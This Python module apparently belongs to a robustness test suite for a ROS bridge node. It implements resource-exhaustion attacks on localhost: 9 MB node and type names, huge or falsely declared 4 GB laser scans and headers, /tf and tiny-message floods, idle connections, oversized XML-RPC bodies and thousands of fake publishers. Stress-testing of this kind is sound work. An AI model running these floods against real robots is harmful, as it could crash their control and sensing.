"""Attacks on a bridge from the robot's network: hostile nodes and connections, without rospy.

Each attack is a context manager: it runs until its block ends, and sends a limited number of bytes.
"""

from __future__ import annotations

import itertools
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from functools import partial
from typing import Any
from urllib.parse import urlsplit
from xmlrpc.client import ServerProxy
from xmlrpc.server import SimpleXMLRPCRequestHandler, SimpleXMLRPCServer

LONG = 9_000_000  # characters
HOST = "127.0.0.1"
MOST_CONNECTIONS = 200

Messages = Iterator[bytes]


class _Quiet(SimpleXMLRPCRequestHandler):
    def log_message(self, *_: object) -> None:
        """Write no log."""


class Node:
    """A node's two servers and its registrations. As a context manager it unregisters at its end."""

    def __init__(self, master_uri: str, name: str) -> None:
        self.name = name
        self.over = threading.Event()
        self.sent = 0  # messages
        self.dropped = 0  # connections closed by the other side
        self._master = ServerProxy(master_uri)
        self._leave = ExitStack()
        self._topics: dict[str, tuple[Callable[[], Messages], float, dict[str, str]]] = {}

    def __enter__(self) -> Node:
        self._data = self._leave.enter_context(socket.create_server((HOST, 0)))
        self._api = self._leave.enter_context(SimpleXMLRPCServer((HOST, 0), _Quiet, logRequests=False))
        self._api.register_function(self._request_topic, "requestTopic")
        self._api.register_function(lambda *_: (1, "", 1), "publisherUpdate")
        self._api.register_function(lambda *_: (1, "", self.name), "getName")
        self._api.register_function(lambda *_: (1, "", 1), "getPid")
        self._api.register_function(
            lambda *_: (1, "", [[topic, "*"] for topic in self._topics]), "getPublications"
        )
        self.uri = f"http://{HOST}:{self._api.server_address[1]}/"
        for work in (partial(self._api.serve_forever, 0.05), self._serve):
            threading.Thread(target=work, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.over.set()
        self._api.shutdown()
        self._leave.close()

    def publish(
        self,
        topic: str,
        kind: str,
        messages: Callable[[], Messages] = lambda: iter(()),
        rate_hz: float = 10.0,
        **says: str,
    ) -> None:
        """Advertise a topic; send `messages()` to every subscriber. 0 Hz: as fast as the subscriber reads.

        `says`: fields of the connection header; without them it has the type that the subscriber wants.
        """
        self._topics[topic] = (messages, rate_hz, says)
        self._register("registerPublisher", "unregisterPublisher", topic, kind)

    def subscribe(self, topic: str, kind: str) -> None:
        """Register as a subscriber."""
        self._register("registerSubscriber", "unregisterSubscriber", topic, kind)

    def _register(self, do: str, undo: str, topic: str, kind: str) -> None:
        getattr(self._master, do)(self.name, topic, kind, self.uri)

        def leave() -> None:
            with suppress(Exception):  # the master has ended
                getattr(self._master, undo)(self.name, topic, self.uri)

        self._leave.callback(leave)

    def _request_topic(self, _caller: Any, topic: Any, _protocols: Any) -> Any:
        if topic not in self._topics:
            return 0, "no such topic", []
        return 1, "", ["TCPROS", HOST, self._data.getsockname()[1]]

    def _serve(self) -> None:
        for _ in range(MOST_CONNECTIONS):
            try:
                connection, _ = self._data.accept()
            except OSError:
                return
            threading.Thread(target=self._talk, args=(connection,), daemon=True).start()

    def _talk(self, connection: socket.socket) -> None:
        """Answer with the type that the subscriber wants, then send."""
        with connection, suppress(OSError, struct.error, KeyError):
            asked = _fields(_exactly(connection, struct.unpack("<I", _exactly(connection, 4))[0]))
            messages, rate_hz, says = self._topics[asked["topic"]]
            answer = {name: asked[name] for name in ("topic", "type", "md5sum", "message_definition")}
            connection.sendall(header(answer | {"callerid": self.name} | says))
            due_s = time.monotonic()
            try:
                for message in messages():
                    if self.over.is_set():
                        return
                    connection.sendall(message)
                    self.sent += 1
                    if rate_hz:
                        due_s = max(due_s + 1.0 / rate_hz, time.monotonic() - 1.0)
                        time.sleep(max(due_s - time.monotonic(), 0.0))
                self.over.wait()
            except OSError:
                self.dropped += 1


def header(fields: dict[str, str]) -> bytes:
    """A TCPROS connection header."""
    pairs = [f"{name}={value}".encode() for name, value in fields.items()]
    whole = b"".join(struct.pack("<I", len(pair)) + pair for pair in pairs)
    return struct.pack("<I", len(whole)) + whole


def _fields(block: bytes) -> dict[str, str]:
    found, at = {}, 0
    while at < len(block):
        (size,) = struct.unpack_from("<I", block, at)
        name, _, value = block[at + 4 : at + 4 + size].decode().partition("=")
        found[name] = value
        at += 4 + size
    return found


def _exactly(connection: socket.socket, size: int) -> bytes:
    parts = bytearray()
    while len(parts) < size:
        part = connection.recv(size - len(parts))
        if not part:
            raise ConnectionError
        parts += part
    return bytes(parts)


# --- messages ------------------------------------------------------------------------------------


def framed(message: bytes) -> bytes:
    """Prefix bytes with their length, as in TCPROS."""
    return struct.pack("<I", len(message)) + message


def text(value: str) -> bytes:
    """A string within a message."""
    return framed(value.encode())


def stamped(number: int, frame: str) -> bytes:
    """A std_msgs/Header with the current time."""
    now_ns = time.time_ns()
    return struct.pack("<III", number, *divmod(now_ns, 1_000_000_000)) + text(frame)


def scan(number: int, beams: int, frame: str = "base_laser_link") -> bytes:
    """A sensor_msgs/LaserScan that sees nothing within 20 m."""
    angles = struct.pack("<7f", -1.5, 3.0 / beams, 1.5, 0.0, 0.1, 0.05, 25.0)
    ranges = struct.pack("<I", beams) + struct.pack("<f", 20.0) * beams
    return stamped(number, frame) + angles + ranges + struct.pack("<I", 0)


def transforms(number: int, frames: int) -> bytes:
    """A tf2_msgs/TFMessage with new child frames."""
    parts = [struct.pack("<I", frames)]
    for frame in range(frames):
        parts.append(stamped(number, "base_footprint") + text(f"flood_{number}_{frame}"))
        parts.append(struct.pack("<7d", 0, 0, 0, 0, 0, 0, 1))
    return b"".join(parts)


def result(goal_id: str, words: str) -> bytes:
    """A play_motion_msgs/PlayMotionActionResult that succeeded."""
    status = struct.pack("<II", 0, 0) + text(goal_id) + struct.pack("<B", 3) + text(words)
    return stamped(0, "") + status + struct.pack("<i", 0) + text(words)


# --- attacks -------------------------------------------------------------------------------------


@contextmanager
def long_name(master_uri: str, topic: str = "/key_vel") -> Iterator[Node]:
    """A node with a name of 9 MB registers as publisher of the drive topic."""
    with Node(master_uri, f"/{'n' * LONG}") as node:
        node.publish(topic, "geometry_msgs/Twist")
        yield node


@contextmanager
def long_type(master_uri: str, topic: str = "/key_vel") -> Iterator[Node]:
    """A node registers as publisher of the drive topic with a type name of 9 MB."""
    with Node(master_uri, "/long_type") as node:
        node.publish(topic, f"geometry_msgs/{'T' * LONG}")
        yield node


@contextmanager
def long_result(master_uri: str, action: str = "/play_motion", rate_hz: float = 2.0) -> Iterator[Node]:
    """A second motion server sends results with 9 MB of text."""
    message = framed(result("a goal", "w" * LONG))
    with Node(master_uri, "/long_result") as node:
        node.publish(
            f"{action}/result",
            "play_motion_msgs/PlayMotionActionResult",
            lambda: itertools.repeat(message),
            rate_hz,
        )
        yield node


@contextmanager
def huge_scans(
    master_uri: str, topic: str = "/scan_raw", beams: int = 3_000_000, rate_hz: float = 10.0, number: int = 1
) -> Iterator[Node]:
    """A second laser sends scans of 3 million beams, ten a second."""
    message = framed(scan(number, beams))
    with Node(master_uri, f"/huge_scans_{number}") as node:
        node.publish(topic, "sensor_msgs/LaserScan", lambda: itertools.repeat(message), rate_hz)
        yield node


@contextmanager
def declared_scan(master_uri: str, topic: str = "/scan_raw", number: int = 1) -> Iterator[Node]:
    """A second laser declares a message of 4 GB and sends as much of it as the bridge reads."""
    part = bytes(1 << 20)

    def messages() -> Messages:
        yield struct.pack("<I", 0xFFFFFFFF)
        yield from itertools.repeat(part, 4095)

    with Node(master_uri, f"/declared_scan_{number}") as node:
        node.publish(topic, "sensor_msgs/LaserScan", messages, 0.0)
        yield node


@contextmanager
def frames(master_uri: str, topic: str = "/tf", rate_hz: float = 50.0, each: int = 200) -> Iterator[Node]:
    """A stream of new child frames on /tf."""
    with Node(master_uri, "/frames") as node:
        node.publish(
            topic,
            "tf2_msgs/TFMessage",
            lambda: (framed(transforms(number, each)) for number in itertools.count()),
            rate_hz,
        )
        yield node


@contextmanager
def tiny_messages(
    master_uri: str,
    topic: str = "/power/battery_level",
    kind: str = "std_msgs/Float32",
    rate_hz: float = 10_000.0,
) -> Iterator[Node]:
    """Ten thousand tiny messages a second."""
    message = framed(struct.pack("<f", 50.0))
    with Node(master_uri, "/tiny_messages") as node:
        node.publish(topic, kind, lambda: itertools.repeat(message), rate_hz)
        yield node


@contextmanager
def fast_scans(master_uri: str, topic: str = "/scan_raw", beams: int = 20_000) -> Iterator[Node]:
    """A second laser sends scans of the largest allowed size, as fast as the bridge reads."""
    message = framed(scan(1, beams))
    with Node(master_uri, "/fast_scans") as node:
        node.publish(topic, "sensor_msgs/LaserScan", lambda: itertools.repeat(message), 0.0)
        yield node


BRIDGE = "/fleet_bridge"


def bridge_uri(master_uri: str) -> str:
    """Address of the bridge's XML-RPC server."""
    master: Any = ServerProxy(master_uri)
    code, words, uri = master.lookupNode("/attack", BRIDGE)
    if code != 1:
        raise LookupError(words)
    return str(uri)


def _data_address(master_uri: str, topic: str) -> tuple[str, int]:
    """Address of the bridge's TCPROS server."""
    bridge: Any = ServerProxy(bridge_uri(master_uri))
    code, words, address = bridge.requestTopic("/attack", topic, [["TCPROS"]])
    if code != 1:
        raise LookupError(words)
    return str(address[1]), int(address[2])


class Listener:
    """Receives the bridge's twists until the bridge closes the connection. A context manager."""

    def __init__(self, master_uri: str, topic: str = "/key_vel") -> None:
        self.last = b""  # raw bytes
        self.ended = threading.Event()
        self._connection = socket.create_connection(_data_address(master_uri, topic), 5.0)
        self._connection.settimeout(None)
        wanted = {"topic": topic, "type": "*", "md5sum": "*", "callerid": "/listener", "tcp_nodelay": "1"}
        self._connection.sendall(header(wanted))

    def __enter__(self) -> Listener:
        threading.Thread(target=self._hear, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._connection.close()

    def _hear(self) -> None:
        with suppress(OSError):
            _exactly(self._connection, struct.unpack("<I", _exactly(self._connection, 4))[0])
            while True:
                self.last = _exactly(self._connection, struct.unpack("<I", _exactly(self._connection, 4))[0])
        self.ended.set()


@contextmanager
def declared_header(master_uri: str, topic: str = "/key_vel", connections: int = 4) -> Iterator[None]:
    """Subscribers declare a connection header of 4 GB and send as much of it as the bridge reads."""
    address = _data_address(master_uri, topic)
    over = threading.Event()

    def talk() -> None:
        with suppress(OSError), socket.create_connection(address, 5.0) as connection:
            connection.sendall(struct.pack("<I", 0xFFFFFFFF))
            for _ in range(4096):
                if over.is_set():
                    return
                connection.sendall(bytes(1 << 20))
            over.wait()

    yield from _beside(over, [talk] * connections)


@contextmanager
def silent_listeners(master_uri: str, topic: str = "/key_vel", connections: int = 40) -> Iterator[None]:
    """Subscribers connect to the bridge and send nothing."""
    address = _data_address(master_uri, topic)
    with ExitStack() as stack:
        for _ in range(connections):
            with suppress(OSError):
                stack.enter_context(socket.create_connection(address, 5.0))
        yield


@contextmanager
def declared_call(master_uri: str, connections: int = 40) -> Iterator[None]:
    """XML-RPC calls declare a body of 4 GB and send as much of it as the bridge reads, up to 1 GB."""
    parts = urlsplit(bridge_uri(master_uri))
    over = threading.Event()

    def talk() -> None:
        with (
            suppress(OSError),
            socket.create_connection((parts.hostname or "", parts.port or 80), 5.0) as connection,
        ):
            connection.sendall(b"POST /RPC2 HTTP/1.1\r\nHost: x\r\nContent-Length: 4294967295\r\n\r\n")
            for _ in range(1024):
                if over.is_set():
                    return
                connection.sendall(b" " * (1 << 20))
            over.wait()

    yield from _beside(over, [talk] * connections)


@contextmanager
def false_publishers(master_uri: str, topic: str = "/scan_raw", publishers: int = 2000) -> Iterator[None]:
    """A call names thousands of publishers at addresses where no node listens."""
    bridge = ServerProxy(bridge_uri(master_uri))
    with suppress(Exception):  # the bridge may refuse the call
        bridge.publisherUpdate(
            "/master", topic, [f"http://{HOST}:1/{number}" for number in range(publishers)]
        )
    yield


def _beside(over: threading.Event, works: list[Callable[[], None]]) -> Iterator[None]:
    for work in works:
        threading.Thread(target=work, daemon=True).start()
    try:
        yield
    finally:
        over.set()
